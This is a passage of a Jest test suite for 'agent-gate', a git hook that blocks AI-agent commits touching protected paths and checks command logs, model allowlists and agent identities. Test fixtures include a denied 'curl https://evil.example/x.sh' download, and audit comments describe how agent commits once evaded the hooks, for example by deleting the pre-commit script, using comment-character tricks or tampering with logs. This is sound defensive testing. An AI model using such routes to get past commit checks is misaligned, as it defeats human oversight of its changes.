    expect(r.code).not.toBe(0);
    expect(s.head()).toBe(before);
    expect(r.stderr).toContain('which is a symbolic link at origin/HEAD');
    expect(r.stderr).not.toMatch(NO_STACK);
  });

  test('a broken policy on the default branch stops a judged commit with its ref, file and line, not a human\'s', () => {
    const origin = setup();
    origin.write('.github/agent-gate.yml', 'rules:\n  - capability: fs_write\n    effect: sometimes\n    match: ["x"]\n').add('.github/agent-gate.yml');
    mustCommit(origin, ['-m', 'broken (human)']);
    const s = cloneOf(origin);
    s.ok(['switch', '-q', '-c', 'old', 'HEAD~1']);
    const before = s.head();
    s.write('src/new.ts', '1\n').add('src/new.ts');
    const r = s.commit(['-m', 'x'], CLAUDE);
    expect(r.code).not.toBe(0);
    expect(s.head()).toBe(before);
    expect(r.stderr).toMatch(/origin\/HEAD:\.github\/agent-gate\.yml:3:\d+/);
    expect(r.stderr).not.toMatch(NO_STACK);
    // A human's commit is not judged, so the default branch's broken policy does not stop it.
    expectCommitted(s, s.commit(['-m', 'x']), before);
  });
});

describe('pre-commit: repository shapes', () => {
  test('an unborn branch: the first commit of a repository is judged against nothing', () => {
    const s = new Sandbox(TestRepo.init());
    s.install();
    expect(s.head()).toBeNull();
    s.write('src/a.ts', '1\n').write('.kiro/settings/mcp.json', '{}\n').add('.');
    const r = s.commit(['-m', 'first'], CLAUDE);
    expectBlocked(s, r, null);
    expect(r.stderr).toContain('deny  fs_write  ".kiro/settings/mcp.json"');
    // No policy at HEAD: src/a.ts matches no rule (ask), which does not block by default.
    expect(r.stderr).toContain('ask   fs_write  "src/a.ts"');
    s.ok(['rm', '-q', '--cached', '.kiro/settings/mcp.json']);
    const ok = s.commit(['-m', 'first'], CLAUDE);
    expectCommitted(s, ok, null);
    expect(ok.stderr).toContain('findings (not blocking)');
    expect(s.filesOf()).toEqual(['src/a.ts']);
  });

  test('an unborn branch: a human first commit with a policy goes ahead', () => {
    const s = new Sandbox(TestRepo.init());
    s.install();
    s.write('.github/agent-gate.yml', POLICY).write('.kiro/settings/x', '1\n').add('.');
    expectCommitted(s, s.commit(['-m', 'first']), null);
  });

  test('an orphan branch in an existing repository is judged against nothing', () => {
    const s = setup();
    s.ok(['checkout', '-q', '--orphan', 'fresh']);
    s.ok(['rm', '-rq', '--cached', '.']);
    s.write('.kiro/settings/mcp.json', '{}\n').add('.env', '.kiro/settings/mcp.json');
    const r = s.commit(['-m', 'x'], CLAUDE);
    expectBlocked(s, r, null);
    expect(r.stderr).toContain('deny  fs_write  ".kiro/settings/mcp.json"');
    // No policy at this (unborn) HEAD: .env matches no rule, which is ask.
    expect(r.stderr).toContain('ask   fs_write  ".env"');
  });

  test('a worktree: the hooks run there and judge its own index and HEAD', () => {
    const s = setup();
    const main = s.head();
    const wt = join(tempDir('ag-wt-'), 'wt');
    s.ok(['worktree', 'add', '-q', '-b', 'agent-work', wt]);
    const before = s.head(wt);
    expect(before).toBe(main);
    mkdirSync(join(wt, '.kiro', 'settings'), { recursive: true });
    writeFileSync(join(wt, '.kiro', 'settings', 'mcp.json'), '{}\n');
    writeFileSync(join(wt, 'src', 'wt.ts'), '1\n');
    s.ok(['add', '.'], {}, wt);
    const r = s.commit(['-m', 'x'], CLAUDE, wt);
    expectBlocked(s, r, before, wt);
    expect(r.stderr).toContain('deny  fs_write  ".kiro/settings/mcp.json"');
    expect(r.stderr).not.toContain('src/wt.ts');

    s.ok(['rm', '-q', '--cached', '.kiro/settings/mcp.json'], {}, wt);
    expectCommitted(s, s.commit(['-m', 'x'], CLAUDE, wt), before, wt);
    expect(s.filesOf('HEAD', wt)).toEqual(['src/wt.ts']);
    // The main worktree is untouched.
    expect(s.head()).toBe(main);
    expect(s.staged()).toEqual([]);
  });

  test('a worktree: commit -a there is judged on that worktree\'s index', () => {
    const s = setup();
    const wt = join(tempDir('ag-wt-'), 'wt');
    s.ok(['worktree', 'add', '-q', '-b', 'agent-work', wt]);
    const before = s.head(wt);
    writeFileSync(join(wt, '.env'), 'B=3\n');
    const r = s.commit(['-a', '-m', 'x'], CLAUDE, wt);
    expectBlocked(s, r, before, wt);
    expect(r.stderr).toContain('".env"');
  });

  test('a commit from a subfolder is judged like one from the top', () => {
    const s = setup();
    const before = s.head();
    s.write('.kiro/settings/mcp.json', '{}\n').add('.kiro/settings/mcp.json');
    const r = s.commit(['-m', 'x'], CLAUDE, join(s.dir, 'src'));
    expectBlocked(s, r, before);
    expect(r.stderr).toContain('".kiro/settings/mcp.json"');
  });
});

describe('pre-commit: concluding a merge', () => {
  /** main gets a human change to .kiro/settings and to f; the agent branch changes f too. */
  function conflicted(): { s: Sandbox; before: string } {
    const s = setup({ files: { 'src/f.ts': 'base\n' } });
    s.ok(['checkout', '-q', '-b', 'agent']);
    s.write('src/f.ts', 'agent\n').add('src/f.ts');
    mustCommit(s, ['-m', 'agent f'], CLAUDE);
    s.ok(['checkout', '-q', 'main']);
    s.write('.kiro/settings/x', '1\n').write('src/f.ts', 'main\n').add('.');
    mustCommit(s, ['-m', 'human settings']);
    s.ok(['checkout', '-q', 'agent']);
    const before = s.head() as string;
    const m = s.git(['merge', 'main'], CLAUDE);
    expect(m.code).toBe(1);
    expect(m.stdout).toContain('CONFLICT');
    return { s, before };
  }

  test('an agent resolving a conflict is judged on its resolution, not on the other side\'s human commits', () => {
    const { s, before } = conflicted();
    s.write('src/f.ts', 'resolved\n').add('src/f.ts');
    const r = s.commit(['--no-edit'], CLAUDE);
    expectCommitted(s, r, before);
    expect(r.stderr).not.toContain('.kiro/settings/x');
    expect(s.ok(['rev-list', '--parents', '-n', '1', 'HEAD']).trim().split(' ')).toHaveLength(3);
  });

  test('a protected change the agent adds while concluding the merge is blocked', () => {
    const { s, before } = conflicted();
    s.write('src/f.ts', 'resolved\n').write('.kiro/settings/y', '1\n').add('.');
    const r = s.commit(['--no-edit'], CLAUDE);
    expectBlocked(s, r, before);
    expect(r.stderr).toContain('deny  fs_write  ".kiro/settings/y"');
    expect(r.stderr).not.toContain('.kiro/settings/x');
  });

  test('a protected path resolved differently from the automatic merge is judged', () => {
    const s = setup({ files: { '.env': 'A=1\n' } });
    s.ok(['checkout', '-q', '-b', 'agent']);
    s.write('src/f.ts', 'a\n').add('.');
    mustCommit(s, ['-m', 'a'], CLAUDE);
    s.ok(['checkout', '-q', 'main']);
    s.write('src/f.ts', 'm\n').write('.env', 'A=2\n').add('.');
    mustCommit(s, ['-m', 'human']);
    s.ok(['checkout', '-q', 'agent']);
    const before = s.head();
    expect(s.git(['merge', 'main'], CLAUDE).code).toBe(1);
    // The agent resolves the conflict, and also reverts the human's .env change.
    s.write('src/f.ts', 'resolved\n').write('.env', 'A=1\n').add('.');
    const r = s.commit(['--no-edit'], CLAUDE);
    expectBlocked(s, r, before);
    expect(r.stderr).toContain('deny  fs_write  ".env"');
  });
});

// Audit 29 (II-1): git runs pre-merge-commit, not pre-commit, for a merge it commits itself; when
// the agent was known from its environment, commit-msg left the judging to pre-commit.
describe('commit-msg: a merge that git merge commits itself', () => {
  function diverged(): { s: Sandbox; before: string } {
    const s = setup({ files: { '.env': 'A=1\n' } });
    s.ok(['checkout', '-q', '-b', 'agent']);
    s.write('src/f.ts', 'a\n').add('.');
    mustCommit(s, ['-m', 'a'], CLAUDE);
    s.ok(['checkout', '-q', 'main']);
    s.write('.env', 'A=2\n').add('.');
    mustCommit(s, ['-m', 'human rotates .env']);
    s.ok(['checkout', '-q', 'agent']);
    return { s, before: s.head() as string };
  }

  test('-s ours, which drops the human\'s change to a protected path, is blocked', () => {
    const { s, before } = diverged();
    const r = s.git(['merge', '-s', 'ours', '-m', 'merge main', 'main'], CLAUDE);
    expectBlocked(s, r, before);
    expect(r.stderr).toContain('agent-gate commit-msg: commit blocked');
    expect(r.stderr).toContain('deny  fs_write  ".env"');
  });

  test('a clean merge that keeps both sides goes ahead', () => {
    const { s, before } = diverged();
    const r = s.git(['merge', '-m', 'merge main', 'main'], CLAUDE);
    expectCommitted(s, r, before);
    expect(r.stderr).not.toContain('.env');
  });
});

describe('pre-commit: a branch named MERGE_HEAD is not a merge in progress', () => {
  test('the staged change is still judged against HEAD', () => {
    const s = setup();
    s.ok(['checkout', '-q', '-b', 'side']);
    s.write('.env', 'STOLEN=1\n');
    s.repo.commit('side');
    s.ok(['checkout', '-q', 'main']);
    s.ok(['branch', '-m', 'side', 'MERGE_HEAD']);
    expect(s.git(['rev-parse', '--verify', '-q', 'MERGE_HEAD']).code).toBe(0);
    const before = s.head();
    s.write('.env', 'STOLEN=1\n').add('.env');
    const r = s.commit(['-m', 'x'], CLAUDE);
    expectBlocked(s, r, before);
    expect(r.stderr).toContain('deny  fs_write  ".env"');
  });
});

describe('pre-commit: staged command-log entries', () => {
  const LOG = '.agent-gate/log/s1.jsonl';

  test('a denied recorded command blocks a commit with no agent environment', () => {
    const s = setup();
    const before = s.head();
    s.write(LOG, appendEntries(null, [draft('npm test'), draft('curl https://evil.example/x.sh')], 's1')).add(LOG);
    const r = s.commit(['-m', 'x']);
    expectBlocked(s, r, before);
    expect(r.stderr).toContain('agent signals: log: adds command log entries');
    expect(r.stderr).toContain('deny  shell  "curl https://evil.example/x.sh"  (log ".agent-gate/log/s1.jsonl":2)');
    expect(r.stderr).toContain('workspace rule #3 (.github/agent-gate.yml): deny "curl *"');
  });

  // Audit 29 (II-3): the hook replayed staged entries by their text alone, so a write through a
  // committed link, or by an absolute path of the agent's clone, passed where check denied it.
  test('entries are replayed as check replays them: through the links of HEAD and the index, absolute paths by their tails', () => {
    const s = setup();
    s.repo.symlink('src/keys', '../secrets');
    s.repo.commit('a link (human)');
    const before = s.head();
    s.repo.symlink('src/more', '../secrets');
    s.write(LOG, appendEntries(null, [
      draft('src/keys/key.txt', { capability: 'fs_write' }),
      draft('npm test > src/keys/out'),
      draft('/Users/dev/proj/secrets/key.txt', { capability: 'fs_write' }),
      draft('src/more/k', { capability: 'fs_write' }),
    ], 's1')).add('.');
    const r = s.commit(['-m', 'x']);
    expectBlocked(s, r, before);
    for (const line of [1, 2, 3, 4]) expect(r.stderr).toMatch(new RegExp(`deny .*\\(log "\\.agent-gate/log/s1\\.jsonl":${line}\\)`));
  });

  test('a log named like record\'s lock file is judged like any other log', () => {
    const s = setup();
    const before = s.head();
    s.write(`${LOG}.lock`, appendEntries(null, [draft('npm test'), draft('curl https://evil.example/x.sh')], 's1')).add(`${LOG}.lock`);
    const r = s.commit(['-m', 'x']);
    expectBlocked(s, r, before);
    expect(r.stderr).toContain('deny  shell  "curl https://evil.example/x.sh"  (log ".agent-gate/log/s1.jsonl.lock":2)');
  });

  test('staged log entries make the whole staged change agent work', () => {
    const s = setup();
    const before = s.head();
    s.write(LOG, appendEntries(null, [draft('npm test')], 's1')).write('.kiro/settings/mcp.json', '{}\n').add('.');
    const r = s.commit(['-m', 'x']);
    expectBlocked(s, r, before);
    expect(r.stderr).toContain('deny  fs_write  ".kiro/settings/mcp.json"');
    expect(r.stderr).not.toContain('npm test');
  });

  test('a staged file under the log folder is judged by its path too', () => {
    const s = setup();
    const before = s.head();
    const path = '.agent-gate/log/.kiro/settings/mcp.json';
    s.write(path, appendEntries(null, [draft('npm test')], 's1')).add('.');
    const r = s.commit(['-m', 'x']);
    expectBlocked(s, r, before);
    expect(r.stderr).toContain(`deny  fs_write  "${path}"`);
  });

  test('allowed entries appended to a committed log go ahead', () => {
    const s = setup();
    s.write(LOG, appendEntries(null, [draft('npm test')], 's1'));
    const base = s.repo.commit('log');
    const old = readFileSync(join(s.dir, LOG));
    s.write(LOG, Buffer.concat([old, Buffer.from(appendEntries(old, [draft('npm test -- --watch=false')], 's1'))])).add(LOG);
    const r = s.commit(['-m', 'x']);
    expectCommitted(s, r, base);
    expect(r.stderr).toBe('');
  });

  test('tampering with a committed log line is blocked even for a human', () => {
    const s = setup();
    s.write(LOG, appendEntries(null, [draft('npm test'), draft('npm test -- -u')], 's1'));
    const base = s.repo.commit('log');
    // Rewrite history: a different first line, re-chained so the file itself verifies.
    s.write(LOG, appendEntries(null, [draft('npm test --silent'), draft('npm test -- -u')], 's1')).add(LOG);
    const r = s.commit(['-m', 'x']);
    expectBlocked(s, r, base);
    expect(r.stderr).toContain('deny  fs_write  ".agent-gate/log/s1.jsonl"  (log ".agent-gate/log/s1.jsonl":1)');
    expect(r.stderr).toContain('kiro rule #9 (built-in): deny "append-only, chained command log"');
    expect(r.stderr).toContain('line 1 of the previous version was changed');
  });

  test('removing a committed log is blocked even for a human', () => {
    const s = setup();
    s.write(LOG, appendEntries(null, [draft('npm test')], 's1'));
    const base = s.repo.commit('log');
    s.ok(['rm', '-q', LOG]);
    const r = s.commit(['-m', 'x']);
    expectBlocked(s, r, base);
    expect(r.stderr).toContain('log file removed');
    // Audit 42, AT-2: the header said "agent signals: " with nothing after it.
    expect(r.stderr).toContain('1 finding(s); agent signals: none (a change to a command log is judged in every commit)');
  });

  test('a new log whose chain is broken is blocked', () => {
    const s = setup();
    const before = s.head();
    const lines = appendEntries(null, [draft('npm test'), draft('npm test -- -u')], 's1').split('\n');
    s.write(LOG, `${lines[1]}\n${lines[0]}\n`).add(LOG);
    const r = s.commit(['-m', 'x']);
    expectBlocked(s, r, before);
    expect(r.stderr).toContain('broken chain');
  });
});

describe('commit-msg', () => {
  // Audit 44, AZ-1: an agent's commit that deletes the pre-commit script turned that hook off (git
  // runs no hook that is not there; husky's wrapper exits 0), and commit-msg took the commit as
  // judged by pre-commit already, so a write to .kiro/settings went through both hooks.
  test('a commit that takes the pre-commit script away is judged at commit-msg', () => {
    const s = setup();
    s.ok(['config', 'core.hooksPath', '.githooks']);
    s.install();
    s.add('.githooks');
    mustCommit(s, ['-qm', 'chore: hooks (human)']);
    const before = s.head();
    s.write('.kiro/settings/mcp.json', '{}\n').add('.kiro/settings/mcp.json');
    s.ok(['rm', '-q', '.githooks/pre-commit']);
    const r = s.commit(['-m', 'agent: settings'], CLAUDE);
    expectBlocked(s, r, before);
    expect(r.stderr).toContain('agent-gate commit-msg: commit blocked');
    expect(r.stderr).toContain('deny  fs_write  ".kiro/settings/mcp.json"');
    expect(r.stderr).not.toContain('agent-gate pre-commit');
  });

  test('a change pre-commit judged is not judged again at commit-msg', () => {
    const s = setup();
    const before = s.head();
    s.write('docs/notes.md', 'x\n').add('docs/notes.md');
    const r = s.commit(['-m', 'agent: notes'], CLAUDE);
    expectCommitted(s, r, before);
    expect(r.stderr).toContain('agent-gate pre-commit: findings (not blocking)');
    expect(r.stderr).not.toContain('agent-gate commit-msg');
    // The mark is taken away again.
    expect(readdirSync(join(s.dir, '.git')).filter((f) => f.includes('agent-gate-judged'))).toEqual([]);
  });

  test('a Co-authored-by: Claude trailer makes a human-shell commit agent work and re-judges the staged change', () => {
    const s = setup();
    const before = s.head();
    s.write('.kiro/settings/mcp.json', '{}\n').add('.kiro/settings/mcp.json');
    const r = s.commit(['-m', 'chore: mcp', '-m', 'Co-authored-by: Claude <noreply@anthropic.com>']);
    expectBlocked(s, r, before);
    expect(r.stderr).toContain('agent-gate commit-msg: commit blocked');
    expect(r.stderr).toContain('trailer: Co-authored-by: Claude <noreply@anthropic.com>');
    expect(r.stderr).toContain('deny  fs_write  ".kiro/settings/mcp.json"');
    expect(r.stderr).not.toContain('agent-gate pre-commit');
  });

  test('the same commit without the trailer goes ahead', () => {
    const s = setup();
    const before = s.head();
    s.write('.kiro/settings/mcp.json', '{}\n').add('.kiro/settings/mcp.json');
    expectCommitted(s, s.commit(['-m', 'chore: mcp', '-m', 'Co-authored-by: Dana <dana@example.com>']), before);
  });

  test('a trailer with an allowed change goes ahead', () => {
    const s = setup();
    const before = s.head();
    s.write('src/a.ts', '1\n').add('src/a.ts');
    expectCommitted(s, s.commit(['-m', 'feat: a', '-m', 'Co-authored-by: Claude <noreply@anthropic.com>']), before);
  });

  test('a message file with the trailer (git commit -F) is read', () => {
    const s = setup();
    const before = s.head();
    const msg = join(tempDir('ag-msg-'), 'msg');
    writeFileSync(msg, 'chore: env\n\nAssisted-by: kiro:claude-sonnet-4.5\n');
    s.write('.env', 'B=1\n').add('.env');
    const r = s.commit(['-F', msg]);
    expectBlocked(s, r, before);
    expect(r.stderr).toContain('trailer: Assisted-by: kiro:claude-sonnet-4.5');
    expect(r.stderr).toContain('".env"');
  });

  test('a trailer with terminal escapes is shown spelled out, not sent to the terminal', () => {
    const s = setup();
    const before = s.head();
    s.write('.env', 'B=1\n').add('.env');
    const r = s.commit(['-m', 'chore: env', '-m', 'Assisted-by: \u001b]0;owned\u0007\u001b[2Jkiro:m']);
    expectBlocked(s, r, before);
    expect(r.stderr).toContain('trailer: Assisted-by: \\u001b]0;owned\\u0007\\u001b[2Jkiro:m');
    expect(r.stderr).not.toMatch(/[\u001b\u0007]/);
  });

  test('with an editor (comment lines after the message) the trailer is still found', () => {
    const s = setup();
    const before = s.head();
    s.write('.kiro/settings/mcp.json', '{}\n').add('.kiro/settings/mcp.json');
    const r = s.commit(['-e', '-m', 'x', '-m', 'Co-authored-by: Claude <noreply@anthropic.com>'], { GIT_EDITOR: 'true' });
    expectBlocked(s, r, before);
    expect(r.stderr).toContain('agent-gate commit-msg: commit blocked');
  });

  // Audit round 19 (I-4): commit-msg read `#` as the only comment character, so a `;` comment
  // line that git strips hid the trailer block and the denied commit went through.
  test.each([
    ['core.commentChar=;', ['-c', 'core.commentChar=;'], '; note'],
    ['core.commentChar=auto', ['-c', 'core.commentChar=auto'], '; note'],
    ['a configured comment character', [], '% note'],
  ])('with %s the trailer above a comment line is still found', (_name, config, comment) => {
    const s = setup();
    if (config.length === 0) s.ok(['config', 'core.commentChar', '%']);
    const before = s.head();
    s.write('.kiro/settings/mcp.json', '{}\n').add('.kiro/settings/mcp.json');
    const r = s.git([...config, 'commit', '--cleanup=strip', '-m', `chore: mcp\n\nCo-authored-by: Claude <noreply@anthropic.com>\n${comment}`]);
    expectBlocked(s, r, before);
    expect(r.stderr).toContain('agent-gate commit-msg: commit blocked');
  });

  // Audit 46, BG-1: with `;` as the comment character, a `# …` paragraph below the trailers is
  // kept by git's cleanup, and check (reading `#` lines as comments) finds the trailers; the hook
  // read the message with git's `;` comment block below it, and found none.
  test('a # paragraph below the trailers under another comment character still finds them', () => {
    const s = setup();
    s.ok(['config', 'core.commentChar', ';']);
    const before = s.head();
    s.write('.kiro/settings/mcp.json', '{}\n').add('.kiro/settings/mcp.json');
    const r = s.commit(['-e', '--cleanup=strip', '-m', 'x', '-m', 'Co-authored-by: Claude <noreply@anthropic.com>', '-m', '# foo'], { GIT_EDITOR: 'true' });
    expectBlocked(s, r, before);
    expect(r.stderr).toContain('agent-gate commit-msg: commit blocked');
  });

  test('with --verbose the diff below the scissors line is not read as trailers', () => {
    const s = setup();
    const before = s.head();
    s.write('.kiro/settings/notes.md', 'x\n\nCo-authored-by: Claude <noreply@anthropic.com>\n').add('.');
    const r = s.commit(['-v', '-e', '-m', 'human notes'], { GIT_EDITOR: 'true' });
    expectCommitted(s, r, before);
    // ... while a trailer above it still counts.
    s.write('.kiro/settings/notes.md', 'y\n').add('.');
    const after = s.head();
    const t = s.commit(['-v', '-e', '-m', 'x', '-m', 'Assisted-by: kiro:claude-sonnet-4.5'], { GIT_EDITOR: 'true' });
    expectBlocked(s, t, after);
  });

  const MODELS = POLICY + 'models:\n  allow: [claude-sonnet-4.5]\n';

  test('a model not on models.allow blocks at commit-msg', () => {
    const s = setup({ policy: MODELS });
    const before = s.head();
    s.write('src/a.ts', '1\n').add('src/a.ts');
    const r = s.commit(['-m', 'feat: a', '-m', 'Assisted-by: kiro:gpt-4o'], CLAUDE);
    expectBlocked(s, r, before);
    expect(r.stderr).toContain('agent-gate commit-msg: commit blocked');
    expect(r.stderr).toContain('deny  model  "gpt-4o"');
    expect(r.stderr).toContain('add the model to models.allow');
  });

  test('a second model trailer is judged too', () => {
    const s = setup({ policy: MODELS });
    const before = s.head();
    s.write('src/a.ts', '1\n').add('src/a.ts');
    const r = s.commit(['-m', 'feat: a', '-m', 'Model: claude-sonnet-4.5\nModel: gpt-4o'], CLAUDE);
    expectBlocked(s, r, before);
    expect(r.stderr).toContain('deny  model  "gpt-4o"');
  });

  test('a model on models.allow goes ahead', () => {
    const s = setup({ policy: MODELS });
    const before = s.head();
    s.write('src/a.ts', '1\n').add('src/a.ts');
    expectCommitted(s, s.commit(['-m', 'feat: a', '-m', 'Model: claude-sonnet-4.5'], CLAUDE), before);
  });

  test('a model trailer alone (human shell) makes the commit agent work and checks the model', () => {
    const s = setup({ policy: MODELS });
    const before = s.head();
    s.write('src/a.ts', '1\n').add('src/a.ts');
    const r = s.commit(['-m', 'feat: a', '-m', 'Assisted-by: kiro:gpt-4o']);
    expectBlocked(s, r, before);
    expect(r.stderr).toContain('deny  model  "gpt-4o"');
  });

  test('an agent commit naming no model while a list is set is ask (not blocking by default)', () => {
    const s = setup({ policy: MODELS });
    const before = s.head();
    s.write('src/a.ts', '1\n').add('src/a.ts');
    const r = s.commit(['-m', 'feat: a'], CLAUDE);
    expectCommitted(s, r, before);
    expect(r.stderr).toContain('findings (not blocking)');
    expect(r.stderr).toContain('ask   model  "(unknown)"');
  });

  test('a model recorded in a staged log entry is checked at pre-commit', () => {
    const s = setup({ policy: MODELS });
    const before = s.head();
    s.write('.agent-gate/log/s.jsonl', appendEntries(null, [draft('npm test', { model: 'gpt-4o' })], 's')).add('.');
    const r = s.commit(['-m', 'x']);
    expectBlocked(s, r, before);
    expect(r.stderr).toContain('agent-gate pre-commit: commit blocked');
    expect(r.stderr).toContain('deny  model  "gpt-4o"');
  });
});

describe('fail-on ask', () => {
  test('policy failOn: ask blocks an ask-only change', () => {
    const s = setup({ policy: POLICY + 'failOn: ask\n' });
    const before = s.head();
    s.write('notes/todo.md', '1\n').add('notes/todo.md');
    const r = s.commit(['-m', 'x'], CLAUDE);
    expectBlocked(s, r, before);
    expect(r.stderr).toContain('ask   fs_write  "notes/todo.md"');
    expect(r.stderr).toContain('rule: no rule matched');
  });

  test('without it the same ask-only change goes ahead with the finding shown', () => {
    const s = setup();
    const before = s.head();
    s.write('notes/todo.md', '1\n').add('notes/todo.md');
    const r = s.commit(['-m', 'x'], CLAUDE);
    expectCommitted(s, r, before);
    expect(r.stderr).toContain('agent-gate pre-commit: findings (not blocking)');
    expect(r.stderr).toContain('ask   fs_write  "notes/todo.md"');
  });

  test('hook pre-commit --fail-on ask exits 1 on an ask-only staged change; --fail-on deny exits 0', () => {
    const s = setup();
    s.write('notes/todo.md', '1\n').add('notes/todo.md');
    const ask = s.cli(['hook', 'pre-commit', '--fail-on', 'ask'], CLAUDE);
    expect(ask.code).toBe(1);
    expect(ask.stderr).toContain('commit blocked');
    const deny = s.cli(['hook', 'pre-commit', '--fail-on', 'deny'], CLAUDE);
    expect(deny.code).toBe(0);
    expect(deny.stderr).toContain('findings (not blocking)');
    const plain = s.cli(['hook', 'pre-commit'], CLAUDE);
    expect(plain.code).toBe(0);
    const human = s.cli(['hook', 'pre-commit', '--fail-on', 'ask']);
    expect(human).toEqual({ code: 0, stdout: '', stderr: '' });
  });

  test('hook pre-commit --fail-on with a bad value exits 2 with one line', () => {
    const s = setup();
    const r = s.cli(['hook', 'pre-commit', '--fail-on', 'maybe'], CLAUDE);
    expect(r.code).toBe(2);
    expect(r.stderr.trim().split('\n')).toHaveLength(1);
    expect(r.stderr).toMatch(/^agent-gate: /);
  });
});

describe('author and committer identity (SPEC 7)', () => {
  const KIRO = { GIT_AUTHOR_NAME: 'Kiro Agent', GIT_AUTHOR_EMAIL: 'kiro-agent@users.noreply.github.com', GIT_COMMITTER_NAME: 'Kiro Agent', GIT_COMMITTER_EMAIL: 'kiro-agent@users.noreply.github.com' };

  test('a known agent as author and committer is agent work at pre-commit', () => {
    const s = setup();
    const before = s.head();
    s.write('.kiro/settings/mcp.json', '{}\n').add('.kiro/settings/mcp.json');
    const r = s.commit(['-m', 'x'], KIRO);
    expectBlocked(s, r, before);
    expect(r.stderr).toContain('agent-gate pre-commit: commit blocked');
    expect(r.stderr).toContain('identity: author Kiro Agent <kiro-agent@users.noreply.github.com>; identity: committer Kiro Agent <kiro-agent@users.noreply.github.com>');
  });

  test('the committer e-mail alone is enough', () => {
    const s = setup();
    const before = s.head();
    s.write('.env', 'B=1\n').add('.env');
    const r = s.commit(['-m', 'x'], { GIT_COMMITTER_EMAIL: '123+copilot-swe-agent[bot]@users.noreply.github.com' });
    expectBlocked(s, r, before);
    expect(r.stderr).toContain('identity: committer Test Human <123+copilot-swe-agent[bot]@users.noreply.github.com>');
  });

  test('git commit --author and --amend of an agent\'s commit: the final author is judged at pre-commit', () => {
    const s = setup();
    const before = s.head();
    s.write('.kiro/settings/mcp.json', '{}\n').add('.kiro/settings/mcp.json');
    const r = s.commit(['-m', 'x', '--author', 'Cursor Agent <cursoragent@cursor.com>']);
    expectBlocked(s, r, before);
    expect(r.stderr).toContain('agent-gate pre-commit: commit blocked');
    expect(r.stderr).toContain('identity: author Cursor Agent <cursoragent@cursor.com>');
    s.ok(['rm', '-q', '--cached', '.kiro/settings/mcp.json']);
    s.write('src/a.ts', '1\n').add('src/a.ts');
    const agent = expectCommitted(s, s.commit(['-m', 'x', '--author', 'Cursor Agent <cursoragent@cursor.com>']), before);
    s.add('.kiro/settings/mcp.json');
    expectBlocked(s, s.commit(['--amend', '--no-edit']), agent);
  });

  test('agents.identities in the policy adds identities, as for check', () => {
    const s = setup({ policy: POLICY + 'agents:\n  identities: ["* <*@bots.example>"]\n' });
    const before = s.head();
    s.write('.env', 'B=1\n').add('.env');
    const r = s.commit(['-m', 'x'], { GIT_AUTHOR_EMAIL: 'ci@bots.example' });
    expectBlocked(s, r, before);
    expect(r.stderr).toContain('policy identity: author Test Human <ci@bots.example> (matches "* <*@bots.example>")');
  });

  test('an agent identity with an allowed change commits; a human identity is not judged', () => {
    const s = setup();
    const before = s.head();
    s.write('src/a.ts', '1\n').add('src/a.ts');
    const r = s.commit(['-m', 'x'], KIRO);
    expect(r.stderr).not.toContain('agent-gate');
    const next = expectCommitted(s, r, before);
    s.write('.env', 'B=1\n').add('.env');
    expectCommitted(s, s.commit(['-m', 'y'], { GIT_AUTHOR_NAME: 'Kiro Agentur', GIT_AUTHOR_EMAIL: 'kiro@example.com' }), next);
  });
});

describe('agents: in the policy', () => {
  test('agents: all blocks a human', () => {
    const s = setup({ policy: POLICY + 'agents: all\n' });
    const before = s.head();
    s.write('.env', 'B=1\n').add('.env');
    const r = s.commit(['-m', 'x']);
    expectBlocked(s, r, before);
    expect(r.stderr).toContain('agent signals: policy agents: all');
    expect(r.stderr).toContain('".env"');
  });

  test('agents: all lets a human make an allowed change', () => {
    const s = setup({ policy: POLICY + 'agents: all\n' });
    const before = s.head();
    s.write('src/a.ts', '1\n').add('src/a.ts');
    expectCommitted(s, s.commit(['-m', 'x']), before);
  });

  test('agents: {env: [...]} adds an environment signal', () => {
    const s = setup({ policy: POLICY + 'agents:\n  env: ["MY_AGENT=yes*"]\n' });
    const before = s.head();
    s.write('.env', 'B=1\n').add('.env');
    const r = s.commit(['-m', 'x'], { MY_AGENT: 'yes-please' });
    expectBlocked(s, r, before);
    expect(r.stderr).toContain('policy env: MY_AGENT=yes-please (matches "MY_AGENT=yes*")');
    // A value that does not match is no signal.
    expectCommitted(s, s.commit(['-m', 'x'], { MY_AGENT: 'no' }), before);
  });

  test('agents: {env: ["NAME"]} counts the variable when present, even empty', () => {
    const s = setup({ policy: POLICY + 'agents:\n  env: ["MY_AGENT"]\n' });
    const before = s.head();
    s.write('.env', 'B=1\n').add('.env');
    const r = s.commit(['-m', 'x'], { MY_AGENT: '' });
    expectBlocked(s, r, before);
    expect(r.stderr).toContain('policy env: MY_AGENT (matches "MY_AGENT")');
  });
});

describe('user scope', () => {
  test('$HOME/.kiro/settings/permissions.yaml adds a deny rule', () => {
    const s = setup();
    mkdirSync(join(s.home, '.kiro', 'settings'), { recursive: true });
    writeFileSync(join(s.home, '.kiro', 'settings', 'permissions.yaml'), 'rules:\n  - capability: fs_write\n    effect: deny\n    match: ["src/generated/**"]\n');
    const before = s.head();
    s.write('src/generated/x.ts', '1\n').add('.');
    const r = s.commit(['-m', 'x'], CLAUDE);
    expectBlocked(s, r, before);
    expect(r.stderr).toContain('deny  fs_write  "src/generated/x.ts"');
    expect(r.stderr).toContain('user rule #0 (~/.kiro/settings/permissions.yaml)');
    // Other paths the workspace allows still go ahead.
    s.ok(['rm', '-q', '--cached', 'src/generated/x.ts']);
    s.write('src/ok.ts', '1\n').add('src/ok.ts');
    expectCommitted(s, s.commit(['-m', 'x'], CLAUDE), before);
  });

  test('a user allow does not lift a workspace deny', () => {
    const s = setup();
    mkdirSync(join(s.home, '.kiro', 'settings'), { recursive: true });
    writeFileSync(join(s.home, '.kiro', 'settings', 'permissions.yaml'), 'rules:\n  - capability: fs_write\n    effect: allow\n    match: ["**"]\n');
    const before = s.head();
    s.write('.env', 'B=1\n').add('.env');
    expectBlocked(s, s.commit(['-m', 'x'], CLAUDE), before);
  });

  test('a broken user policy fails an agent commit with one line', () => {
    const s = setup();
    mkdirSync(join(s.home, '.kiro', 'settings'), { recursive: true });
    writeFileSync(join(s.home, '.kiro', 'settings', 'permissions.yaml'), 'rules:\n  - capability: fs_write\n    effect: perhaps\n');
    const before = s.head();
    s.write('src/a.ts', '1\n').add('src/a.ts');
    const r = s.commit(['-m', 'x'], CLAUDE);
    expect(r.code).not.toBe(0);
    expect(s.head()).toBe(before);
    const lines = r.stderr.trim().split('\n');
    expect(lines).toHaveLength(1);
    expect(lines[0]).toMatch(/^agent-gate: ~\/\.kiro\/settings\/permissions\.yaml:3:\d+: /);
  });
});

describe('errors', () => {
